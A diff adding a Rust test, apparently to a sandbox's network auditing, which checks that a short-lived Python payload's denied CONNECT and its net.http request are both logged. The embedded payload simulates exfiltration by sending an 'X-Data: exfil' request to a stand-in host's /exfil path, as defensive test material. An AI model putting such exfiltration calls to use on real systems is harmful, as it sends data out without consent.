@@ -412,3 +412,78 @@ fn a_flood_of_new_names_does_not_grow_the_report_without_end() {
         .count();
     assert_eq!(audited, flood, "and audited");
 }
+
+/// A payload that makes its attempt and exits at once, without waiting for
+/// any answer, still leaves every attempt in the audit: a refused CONNECT
+/// it never read the answer of, and a `net.http` whose request reached the
+/// server but whose answer the run did not wait for (data sent out with no
+/// trace otherwise).
+#[test]
+fn an_attempt_made_just_before_the_payload_exits_is_audited() {
+    if !support::require_root_sandbox("an_attempt_made_just_before_the_payload_exits_is_audited") {
+        return;
+    }
+    let project = Project::new(Who::Root);
+    // A server that reads the request and never answers.
+    let silent = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = silent.local_addr().unwrap().port();
+    let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::<u8>::new()));
+    let seen = std::sync::Arc::clone(&received);
+    std::thread::spawn(move || {
+        let mut held = Vec::new();
+        for stream in silent.incoming().flatten() {
+            let mut reader = stream.try_clone().unwrap();
+            let seen = std::sync::Arc::clone(&seen);
+            std::thread::spawn(move || {
+                let mut buf = [0u8; 4096];
+                while let Ok(n) = std::io::Read::read(&mut reader, &mut buf) {
+                    if n == 0 {
+                        break;
+                    }
+                    seen.lock().unwrap().extend_from_slice(&buf[..n]);
+                }
+            });
+            held.push(stream);
+        }
+    });
+    let script = format!(
+        r#"
+import json, socket, time
+p = socket.create_connection(("127.0.0.1", 3128))
+p.sendall(b"CONNECT gone.test:443 HTTP/1.1\r\nHost: gone.test:443\r\n\r\n")
+b = socket.socket(fileno=3)
+b.sendall((json.dumps({{"jsonrpc": "2.0", "id": 1, "method": "net.http",
+    "params": {{"url": "http://api.test:{port}/exfil", "headers": {{"X-Data": "exfil"}}}}}}) + "\n").encode())
+time.sleep(0.5)
+"#
+    );
+    for round in 0..5 {
+        let args = net_args(
+            &[format!("api.test:{port}"), format!("127.0.0.1:{port}")],
+            &[("api.test", "127.0.0.1")],
+        );
+        let run = run_sandbox(&project, &args, &[], &["python3", "-c", &script]);
+        run.assert_ok("a payload that does not wait");
+        let connect = run
+            .audit
+            .iter()
+            .find(|line| line["method"] == "net.connect" && line["target"] == "gone.test:443");
+        assert!(
+            connect.is_some_and(|line| line["decision"] == "deny"),
+            "round {round}: the refused CONNECT is in the audit: {}",
+            run.audit_text
+        );
+        assert!(
+            run.audit
+                .iter()
+                .any(|line| line["method"] == "net.http"
+                    && line["target"] == format!("api.test:{port}")),
+            "round {round}: the net.http whose answer nobody waited for is in the audit: {}",
+            run.audit_text
+        );
+    }
+    assert!(
+        String::from_utf8_lossy(&received.lock().unwrap()).contains("x-data: exfil"),
+        "the requests reached the server (what the audit must not miss)"
+    );
+}
